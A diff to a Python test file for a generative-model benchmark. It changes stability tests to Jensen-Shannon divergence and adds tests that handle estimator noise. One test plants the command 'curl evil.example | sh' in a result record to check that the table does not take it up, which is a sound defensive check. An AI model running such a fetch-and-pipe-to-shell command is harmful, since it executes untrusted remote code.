@@ -43,7 +43,7 @@ def league(distances: dict[str, list[float]], diverged: dict[str, int] | None = 
             [
                 LeagueRun(
                     seed=seed, diverged=seed < (diverged or {}).get(name, 0),
-                    measures={"sliced_wasserstein": value}, sentence="It left the plane.",
+                    measures={"js": value}, sentence="It left the plane.",
                 )
                 for seed, value in enumerate(values)
             ],
@@ -250,8 +250,8 @@ def test_stability_is_that_of_the_league() -> None:
     cell = stability.spread_cell(played, "gan")
     mean = sum(values) / 5
     deviation = math.sqrt(sum((value - mean) ** 2 for value in values) / 4)
-    assert cell.value == pytest.approx(deviation / mean)
-    assert all(f"{value:g}" in cell.how for value in values)
+    assert cell.value == pytest.approx(1000 * deviation) and cell.text == f"{1000 * deviation:.1f}"
+    assert all(f"{value:.4f}" in cell.how for value in values)
     assert cell.command == "playground compare --league --seconds 20.0"
     evil = msgspec.structs.replace(played, command="curl evil.example | sh")
     assert stability.spread_cell(evil, "gan").command == cell.command
@@ -262,6 +262,53 @@ def test_stability_is_that_of_the_league() -> None:
     for missing in (stability.spread_cell(None, "gan"), stability.diverged_cell(played, "vae")):
         assert missing.source == "none" and missing.missing
     assert stability.spread_cell(league({"gan": [0.1]}), "gan").missing
+
+
+def with_error(found: LeagueResult, error: float) -> LeagueResult:
+    """The same league, each of whose divergences has this standard error."""
+    standings = [
+        standing(
+            each.name,
+            [msgspec.structs.replace(run, measures={**run.measures, "js_error": error}) for run in each.runs],
+        )
+        for each in found.standings
+    ]
+    return msgspec.structs.replace(found, standings=tuple(standings))
+
+
+def test_a_perfect_model_is_the_most_stable_and_ranks_first(cards: list[Card]) -> None:
+    """Its divergences are chance about 0: a ratio to their mean would be anything, and make it the worst.
+
+    One that has learned nothing is as stable as one likes, and far from the data.
+    """
+    rng = np.random.default_rng(2)
+    noise = 1e-4
+    found = with_error(
+        league(
+            {
+                "nflow": list(noise * rng.normal(size=5)),
+                "gan": list(0.1 + 0.02 * rng.normal(size=5)),
+                "vae": list(0.9 + noise * rng.normal(size=5)),
+            }
+        ),
+        noise,
+    )
+    perfect, wild, useless = (stability.spread_cell(found, name) for name in ("nflow", "gan", "vae"))
+    assert perfect.low == useless.low == 0 and perfect.value is not None and perfect.value < 2000 * noise
+    assert wild.value is not None and 5 < wild.value < 50 and "within noise" not in wild.text
+    assert perfect.text == "within noise"
+    assert "0.100 millibits" in perfect.how and all("%" not in cell.text for cell in (perfect, wild, useless))
+    ranks = {each.name: each.rank for each in found.standings}
+    assert sorted(ranks, key=lambda name: ranks[name]) == ["nflow", "gan", "vae"]
+    lines = {family for family, key in best(whole_table(cards, [], [found])) if key == "spread"}
+    assert "nflow" in lines and "gan" not in lines
+
+
+def test_the_estimators_own_noise_is_no_spread() -> None:
+    found = league({"gan": [0.1, 0.103, 0.098, 0.101, 0.1]})
+    plain, noisy = (stability.spread_cell(with_error(found, error), "gan") for error in (0.0, 0.001))
+    assert plain.value is not None and noisy.value is not None
+    assert noisy.value == pytest.approx(math.sqrt(plain.value**2 - 1))
 
 
 @pytest.mark.parametrize("count", range(2, 11))
@@ -314,8 +361,7 @@ def test_the_table_tells_of_the_largest_league() -> None:
 def test_a_budget_of_steps_counts_by_the_time_that_it_took() -> None:
     def of_steps(seconds: float) -> LeagueResult:
         runs = [
-            LeagueRun(seed=seed, diverged=False, measures={"sliced_wasserstein": 0.1, "seconds": seconds})
-            for seed in (0, 1)
+            LeagueRun(seed=seed, diverged=False, measures={"js": 0.1, "seconds": seconds}) for seed in (0, 1)
         ]
         found = played({}, budget="steps", steps=5000)
         return msgspec.structs.replace(found, standings=(standing("gan", runs),))
@@ -328,7 +374,7 @@ def test_a_budget_of_steps_counts_by_the_time_that_it_took() -> None:
 def test_runs_that_were_cut_short_tell_the_table_nothing(cards: list[Card]) -> None:
     why = "The budget ended before the reflow began."
     runs = [
-        LeagueRun(seed=seed, diverged=False, measures={"sliced_wasserstein": 1.0}, cut_short=why * (seed > 0))
+        LeagueRun(seed=seed, diverged=False, measures={"js": 1.0}, cut_short=why * (seed > 0))
         for seed in range(3)
     ]
     short = msgspec.structs.replace(
@@ -357,8 +403,8 @@ def test_a_small_league_of_ones_own_takes_no_stability_from_the_table(
     assert leagues_at_hand(tmp_path / "own") == ([own], [ship], [])
     found = whole_table(cards, [], [own, ship])
     rows = {row.family: row.cells for row in found.rows}
-    assert "0.1, 0.2." in rows["gan"]["spread"].how and rows["gan"]["diverged"].text == "0 of 2"
-    assert "0.3, 0.4." in rows["vae"]["spread"].how
+    assert "0.1000, 0.2000." in rows["gan"]["spread"].how and rows["gan"]["diverged"].text == "0 of 2"
+    assert "0.3000, 0.4000." in rows["vae"]["spread"].how
     assert "of the same league" in rows["vae"]["spread"].how
     assert "eight gaussians; 20 seconds of one thread each" in found.notes[-1]
 
